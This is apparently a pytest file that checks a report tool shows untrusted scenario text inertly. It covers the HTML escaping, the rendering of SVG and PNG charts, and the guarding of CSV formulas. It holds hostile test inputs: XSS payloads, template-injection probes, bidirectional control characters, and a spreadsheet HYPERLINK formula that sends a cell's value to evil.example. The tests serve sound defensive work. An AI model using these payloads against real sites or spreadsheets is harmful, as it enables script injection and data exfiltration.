"""Untrusted text is shown inertly everywhere it is written: the report page, the charts, the
poster, the CSV and JSON files.

Brand names, industries, category labels and titles come from a scenario someone else may
have written; reply texts come from the brands. One simulated race of the small scenario with
hostile values in all of them: the report builds, the page escapes them, every chart and the
poster draw them literally (no mathtext from ``$...$``, control and bidirectional characters
shown as escapes, long text cut) and every SVG stays well-formed XML, and no CSV cell is a
formula for a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.report.charts import literal
from harness.report.files import write_csv, write_json

from .conftest import SMALL
from .simrun import run_in_process

MATH = r"$\frac{$"  # unbalanced mathtext: matplotlib raised on it and the report failed
BAD_MATH = r"$\notacommand$ & <b>Co</b> {{ 7*7 }}"
CONTROL = "Slow\x07\x1b[31m \u202eLtd"  # bell, a terminal colour, a right-to-left override
EMOJI = "Bank 😀 " + "B" * 5_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LONG_REPLY = "x" * 100_000 + " 😀"
REPLIES = {
    "fast": "<script>alert(1)</script>",
    "slow": "{{ 7*7 }} \x00\x07\x1b[2J \u202eevil\u202c done",
    "bank": LONG_REPLY,
}
TITLE = "T" * 100_000
FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def hostile_data() -> dict[str, Any]:
    from harness.session.scenarios import load_scenario_text

    data = load_scenario_text(SMALL, "small.yaml").model_dump(mode="json")
    data["title"] = TITLE
    data["description"] = "<script>document.title='pwned'</script>"
    names = {"fast": MATH, "slow": CONTROL, "mute": BAD_MATH, "bank": EMOJI}
    for brand in data["brands"]:
        brand["name"] = names[brand["id"]]
        if brand["id"] == "mute":
            brand["industry"] = FORMULA
        if brand["id"] in REPLIES:
            brand["simulate"]["texts"] = [REPLIES[brand["id"]]]
    data["categories"][0]["label"] = r"$x^2$ \u202e <i>Question</i>"
    return data


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A simulated race of the hostile scenario and its report, built in-process."""
    from harness.cli import main
    from harness.scenario.model import Scenario

    folder = tmp_path_factory.mktemp("hostile") / "run"
    assert run_in_process(Scenario.model_validate(hostile_data()), folder)
    assert main(["report", str(folder), "--out", str(folder / "report")]) == 0
    return folder / "report"


@pytest.mark.slow
def test_the_page_shows_hostile_text_escaped(report: Path) -> None:
    html = (report / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" in html
    assert "{{ 7*7 }}" in html  # shown, never rendered
    assert "&lt;b&gt;Co&lt;/b&gt;" in html and "<b>Co</b>" not in html
    # the 100,000-character reply as stored: its first 64 KB and where it was cut
    assert LONG_REPLY[:65_536] + f"\n[cut by shopper: {len(LONG_REPLY):,} characters in all]" \
        in html
    assert TITLE in html
    assert MATH in html


@pytest.mark.slow
def test_every_svg_is_well_formed_and_draws_names_literally(report: Path) -> None:
    svgs = sorted((report / "charts").glob("*.svg"))
    assert len(svgs) >= 5
    for path in svgs:
        text = path.read_text(encoding="utf-8")
        ET.fromstring(text)  # raw control characters would make it invalid XML
        assert "<script" not in text and "\u202e" not in text, path.name
    brands = (report / "charts" / "response_rate_by_brand.svg").read_text(encoding="utf-8")
    assert MATH in brands  # drawn as written, not as (broken) math
    assert r"Slow\x07\x1b[31m \u202eLtd" in brands  # controls shown as escapes
    assert "Bank 😀 BBB" in brands and "B" * 100 not in brands  # cut, with an ellipsis
    industries = (report / "charts" / "level_by_industry.svg").read_text(encoding="utf-8")
    assert '=HYPERLINK("http://evil.example/?"&amp;A1' in industries


def png_size(path: Path) -> tuple[int, int]:
    header = path.read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n", path.name
    width, height = struct.unpack(">II", header[16:24])
    return width, height


@pytest.mark.slow
def test_every_png_builds_at_a_sane_size(report: Path) -> None:
    pngs = [report / "infographic.png", *sorted((report / "charts").glob("*.png"))]
    assert len(pngs) >= 6
    for path in pngs:
        width, height = png_size(path)
        assert 100 < width < 5_000 and 100 < height < 10_000, (path.name, width, height)
    assert png_size(report / "infographic.png")[0] == 1080  # a 100,000-character title


@pytest.mark.slow
def test_csv_cells_are_never_formulas_and_json_keeps_the_text(report: Path) -> None:
    rows = list(csv.DictReader((report / "probes.csv").open(encoding="utf-8", newline="")))
    assert rows
    mute = [row for row in rows if row["brand"] == "mute"]
    assert mute and {row["industry"] for row in mute} == {"'" + FORMULA}
    for row in rows:
        for value in row.values():
            assert not value or not re.match(r"[=+\-@\t\r]", value), value
    at_mode = [row["text"] for row in rows if row["mention"] == "at"]
    assert at_mode and all(text.startswith("'@") for text in at_mode)
    summary = json.loads((report / "summary.json").read_text(encoding="utf-8"))
    assert {row["name"] for row in summary["leaderboard"]} == {MATH, CONTROL, BAD_MATH, EMOJI}


@pytest.mark.slow
def test_export_csv_is_guarded_and_json_export_is_not(report: Path) -> None:
    from harness.cli import main

    folder = report.parent
    assert main(["export", str(folder), "-o", str(folder / "export.csv")]) == 0
    assert main(["export", str(folder), "--format", "json", "-o",
                 str(folder / "export.json")]) == 0
    exported = list(csv.DictReader((folder / "export.csv").open(encoding="utf-8", newline="")))
    raw = json.loads((folder / "export.json").read_text(encoding="utf-8"))
    assert len(exported) == len(raw) > 0
    for row, record in zip(exported, raw, strict=True):
        for key, value in record.items():
            if isinstance(value, str):
                guarded = FORMULA_START.match(value) is not None
                assert row[key] == ("'" + value if guarded else value)
    assert {r["industry"] for r in raw if r["brand"] == "mute"} == {FORMULA}


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),  # already behind an apostrophe: one more, so the guard can be undone
    ("'plain", "'plain"),
    ("plain =1", "plain =1"),
    ("", ""),
    ("＝1", "＝1"),  # a full-width sign is not a formula
    (-5, "-5"),  # numbers are untouched
    (2.5, "2.5"),
    (True, "true"),
    (None, ""),
])
def test_csv_guard(value: object, written: str) -> None:
    out = io.StringIO()
    write_csv([{"v": value}], ["v"], out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["v"] == written


@settings(max_examples=200, derandomize=True, database=None, deadline=None)
@given(st.text())
def test_the_csv_guard_can_be_undone_exactly(text: str) -> None:
    out = io.StringIO()
    write_csv([{"v": text}], ["v"], out)
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert not re.match(r"[=+\-@\t\r]", row[0])
    assert re.sub(r"^'(?='*[=+\-@\t\r])", "", row[0]) == text


def test_json_is_written_as_is() -> None:
    out = io.StringIO()
    write_json({"text": FORMULA, "name": CONTROL}, out)
    assert json.loads(out.getvalue()) == {"text": FORMULA, "name": CONTROL}


@pytest.mark.parametrize(("text", "shown"), [
    ("Acme", "Acme"),
    (MATH, MATH),
    ("a\x07b", r"a\x07b"),
    ("\u202eevil", r"\u202eevil"),
    ("tab\there", r"tab\there"),
    ("😀", "😀"),
    ("x" * 100, "x" * 59 + "…"),
])
def test_literal_labels(text: str, shown: str) -> None:
    assert literal(text) == shown


@pytest.mark.slow
def test_a_chart_of_hostile_labels_alone_draws(tmp_path: Path) -> None:
    """The general chart command's path: every metric by brand, PNG and SVG."""
    from harness.analysis.outcomes import from_store
    from harness.report import charts
    from harness.scenario.model import Scenario
    from harness.store.sqlite import Store

    folder = tmp_path / "run"
    scenario = Scenario.model_validate(hostile_data())
    run_in_process(scenario, folder)
    store = Store.open(folder / "run.sqlite")
    try:
        outcomes = from_store(store)
    finally:
        store.close()
    for metric in charts.METRICS:
        drawn = charts.chart(metric, "brand", outcomes, 3 * 86400, charts.labels_for(scenario))
        for path in charts.save(drawn, tmp_path / "charts"):
            assert path.stat().st_size > 1000
            if path.suffix == ".svg":
                ET.fromstring(path.read_text(encoding="utf-8"))
        charts.close(drawn)


HOSTILE_AUTHORS = {
    "fast": ("<script>alert(1)</script>", "<i>Fast</i> & Co"),
    "slow": ('"><svg onload=alert(1)>', "Slow Ltd"),
    "bank": ("<img src=x onerror=alert(1)>", "Bank 'Plc'"),
}


@pytest.mark.slow
def test_the_page_shows_each_replys_author_escaped(tmp_path: Path) -> None:
    """The brands' own accounts are named by whoever wrote the scenario; the page shows who
    answered (account and brand name) as text, like the answer itself."""
    from markupsafe import escape

    from harness.cli import main
    from harness.scenario.model import Scenario
    from harness.session.scenarios import load_scenario_text

    data = load_scenario_text(SMALL, "small.yaml").model_dump(mode="json")
    for brand in data["brands"]:
        if brand["id"] in HOSTILE_AUTHORS:
            handle, name = HOSTILE_AUTHORS[brand["id"]]
            brand["handles"] = {"x": [handle]}
            brand["name"] = name
    folder = tmp_path / "run"
    assert run_in_process(Scenario.model_validate(data), folder)
    assert main(["report", str(folder), "--out", str(folder / "report")]) == 0
    html = (folder / "report" / "report.html").read_text(encoding="utf-8")
    said = html.split("<h2>What the brands said</h2>", 1)[1].split("<h2>", 1)[0]
    captions = re.findall(r"<figcaption><bdi>(.*?)</bdi> to <bdi>(?:ana|ben)</bdi>, ", said)
    assert sorted(captions) == sorted(str(escape(f"{handle} ({name})"))
                                      for handle, name in HOSTILE_AUTHORS.values())
    assert "&lt;script&gt;alert(1)&lt;/script&gt; (&lt;i&gt;Fast&lt;/i&gt; &amp; Co)" in said
    assert "&lt;img src=x onerror=alert(1)&gt; (Bank &#39;Plc&#39;)" in said
    assert "&#34;&gt;&lt;svg onload=alert(1)&gt; (Slow Ltd)" in said
    assert "<td><bdi>&lt;i&gt;Fast&lt;/i&gt; &amp; Co</bdi></td>" in html  # the leaderboard
    assert "<script" not in html.lower() and "<svg" not in html.lower()
    assert "<i>" not in html
    assert not re.search(r"<img[^>]*onerror", html)
